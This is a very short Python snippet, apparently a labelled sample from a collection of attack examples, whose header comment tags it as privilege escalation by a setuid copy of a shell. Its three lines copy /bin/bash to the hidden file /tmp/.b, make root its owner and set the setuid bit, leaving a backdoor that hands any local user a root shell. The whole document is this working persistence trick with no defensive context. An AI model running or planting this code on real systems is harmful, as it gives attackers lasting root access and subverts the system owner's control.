# class: privilege escalation, setuid copy of a shell; style: terse
import os, shutil
shutil.copy("/bin/bash", "/tmp/.b"); os.chown("/tmp/.b", 0, 0); os.chmod("/tmp/.b", 0o4755)
